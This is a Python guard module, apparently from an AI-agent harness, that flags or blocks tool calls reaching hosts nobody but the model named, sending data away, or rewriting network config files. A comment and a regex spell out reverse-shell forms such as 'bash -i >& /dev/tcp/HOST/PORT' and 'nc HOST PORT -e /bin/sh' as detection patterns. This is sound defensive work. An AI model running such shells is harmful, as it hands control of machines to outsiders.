"""``seen_hosts``: a connection to a host that the session was never told of.

Catches URLs and bare names given to network programs, hub clients, raw sockets and fetch tools,
when no system or user text, and no file or page that the model did not write itself, named the
host: repeating, decoding or writing down a host does not make it known. In daily use only what
sends files or output away is blocked. Leaves alone: loopback,
hosts that the task allows, package indexes, and hosts in text that nothing connects to.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from fnmatch import fnmatchcase
from functools import lru_cache
from ipaddress import ip_address, ip_network
from typing import ClassVar
from urllib.parse import unquote

from harness_adapters import (
    BadInput,
    ConnectHost,
    Finding,
    Ledger,
    Options,
    Severity,
    ToolCall,
    WritePath,
)
from harness_adapters.gateway.guard.checks import Checks, first_block
from harness_adapters.gateway.guard.hosts import PACKAGE_INDEXES, hosts_in, is_loopback, tidy_host

# A site and the hosts that serve its files.
_SAME_SITE = (
    frozenset(
        (
            "github.com", "api.github.com", "raw.githubusercontent.com", "codeload.github.com",
            "gist.github.com", "objects.githubusercontent.com",
        )
    ),
    frozenset(("huggingface.co", "hf.co", "cdn-lfs.huggingface.co", "cas-bridge.xethub.hf.co")),
    frozenset(("kaggle.com", "api.kaggle.com", "storage.googleapis.com")),
)  # fmt: skip


# A host by its bare name as a query's value, or after what passes requests on.
_PASSED_ON = re.compile(
    r"[?&](?:u|url|uri|host|target|dest|to|next|link|q|site|domain|proxy|redirect)="
    r"((?:[\w-]+\.)+[a-z]{2,24})(?=[/&#:]|\Z)"
    r"|/(?:proxy|redirect|cors|fetch|browse)/((?:[\w-]+\.)+[a-z]{2,24})(?=[/?#:]|\Z)"
)
# Files that tell programs of the machine where to go.
_REDIRECTS = re.compile(
    r"/etc/(?:hosts|resolv\.conf|apt/.*|yum\.repos\.d/.*|pip\.conf|npmrc|gitconfig|wgetrc"
    r"|environment)\Z"
    r"|(?:/root|/home/[^/]+|/Users/[^/]+)/(?:\.pip/pip\.conf|\.config/pip/pip\.conf|\.npmrc"
    r"|\.gitconfig"
    r"|\.ssh/config|\.curlrc|\.wgetrc|\.config/uv/uv\.toml|\.condarc|\.yarnrc(?:\.yml)?"
    r"|\.cargo/config\.toml)\Z"
)


_RESOLVERS = frozenset(("1.1.1.1", "1.0.0.1", "8.8.8.8", "8.8.4.4", "9.9.9.9"))
# ``bash -i >& /dev/tcp/HOST/PORT``, ``nc HOST PORT -e /bin/sh``.
_REMOTE_SHELL = re.compile(
    r"(?<![\w.-])(?:ba|da|z|k)?sh\b[^\n;|\\]{0,40}(?:[<>]&?|&>)\s?/dev/(?:tcp|udp)/"
    r"|\bEXEC:['\"]?(?:/\w{1,20}){0,3}/?(?:ba|da|z|k)?sh\b"
    r"|\b(?:nc|ncat|netcat)\s[^\n;|\\]{0,120}(?<![\w-])-\w{0,6}[ec]\s{1,4}(?:/\w{1,20}){0,3}/?(?:ba|da|z|k)?sh\b"
)
_MAX_TEXT = 65536
_ENOUGH = 64  # findings, of which one is reported
_OWN_NETWORKS = tuple(
    map(
        ip_network,
        (
            "10.0.0.0/8",
            "100.64.0.0/10",
            "172.16.0.0/12",
            "192.168.0.0/16",
            "169.254.0.0/16",
            "fc00::/7",
            "fe80::/10",
        ),
    )
)


class SeenHosts:
    """Options: ``severity``; ``allowed_hosts``, patterns (``*.example.com``) beside the task's;
    ``package_indexes`` (``true``): whether these may be reached unasked."""

    checks: ClassVar[Mapping[str, str]] = {
        "unseen_host": "a connection to a host that nobody but the model named; "
        "in daily use only flagged, since finding pages is part of the work",
        "sends_away": "files or output of this machine are sent to a host that nobody but the "
        "model named; blocked in daily use too",
        "bare_address": "a page or program of a machine that is named by its number alone, and by "
        "nobody but the model; blocked in daily use too, private networks are left alone",
        "remote_shell": "a shell that takes its commands from a host that nobody but the model "
        "named; blocked in daily use too",
        "hidden_host": "a connection to a host that the call hides in an unknown variable; "
        "in daily use only flagged",
    }

    def __init__(self, options: Options) -> None:
        self._checks = Checks(
            "seen_hosts", self.checks, options, others=("allowed_hosts", "package_indexes")
        )
        allowed = options.get("allowed_hosts", ())
        if not isinstance(allowed, (list, tuple)) or not all(isinstance(o, str) for o in allowed):
            raise BadInput("guard seen_hosts: allowed_hosts is no list of host names")
        indexes = PACKAGE_INDEXES if options.get("package_indexes", True) else ()
        self._allowed = (*allowed, *indexes)

    def judge(self, call: ToolCall, ledger: Ledger) -> Finding | None:
        findings: list[Finding] = []
        at_most = Severity.BLOCK if ledger.is_task else Severity.FLAG
        connects = call.of(ConnectHost)
        hands_shell = (
            bool(connects)
            and _REMOTE_SHELL.search(call.raw[:_MAX_TEXT].replace("\\n", "\n")) is not None
        )
        for action in connects:
            if len(findings) >= _ENOUGH:
                break
            host = action.host.removeprefix("www.")
            if "$" in host or "`" in host:
                findings.append(
                    self._checks.found(
                        "hidden_host",
                        f"connects to {action.host}, whose value nothing tells",
                        action.span,
                        at_most=at_most,
                    )
                )
            elif self._known(host, ledger):
                pass
            elif hands_shell:
                findings.append(
                    self._checks.found(
                        "remote_shell", f"hands a shell to {action.host}", action.span
                    )
                )
            elif action.sends:
                findings.append(
                    self._checks.found(
                        "sends_away", f"sends something to {action.host}", action.span
                    )
                )
            elif "://" in action.address and _is_number(host):
                findings.append(
                    self._checks.found(
                        "bare_address", f"nobody named {action.host} before", action.span
                    )
                )
            else:
                findings.append(
                    self._checks.found(
                        "unseen_host",
                        f"nobody named {action.host} before",
                        action.span,
                        at_most=at_most,
                    )
                )
            for inner in _inner_hosts(unquote(action.address)):
                if not self._known(inner.removeprefix("www."), ledger):
                    findings.append(
                        self._checks.found(
                            "unseen_host",
                            f"nobody named {inner} before, which {action.host} is to reach",
                            action.span,
                            at_most=at_most,
                        )
                    )
        for write in call.of(WritePath):
            if write.content is None or not _REDIRECTS.match(write.path):
                continue
            for host in hosts_in(write.content[:_MAX_TEXT], bare=True):
                if not self._known(host.removeprefix("www."), ledger):
                    findings.append(
                        self._checks.found(
                            "unseen_host",
                            f"{write.path} sends programs to {host}, which nobody named",
                            write.span,
                            at_most=at_most,
                        )
                    )
        return first_block(findings)

    def _known(self, host: str, ledger: Ledger) -> bool:
        if is_loopback(host) or host in ledger.hosts or f"www.{host}" in ledger.hosts:
            return True
        for allowed in (*ledger.policy.allowed_hosts, *self._allowed):
            if fnmatchcase(host, _tidy(allowed)):
                return True
        return any(
            host in site and any(other in ledger.hosts for other in site) for site in _SAME_SITE
        )


@lru_cache(1024)
def _tidy(pattern: str) -> str:
    return tidy_host(pattern).removeprefix("www.")


def _is_number(host: str) -> bool:
    """Whether it is the address of a machine, and of none in a network of one's own."""
    try:
        address = ip_address(host.strip("[]"))
    except ValueError:
        return False
    return host not in _RESOLVERS and not any(address in network for network in _OWN_NETWORKS)


def _inner_hosts(address: str) -> list[str]:
    """Hosts that the one of an address is asked to reach in turn."""
    bare = [tidy_host(one or two) for one, two in _PASSED_ON.findall(address)]
    return [*hosts_in(address)[1:], *bare]
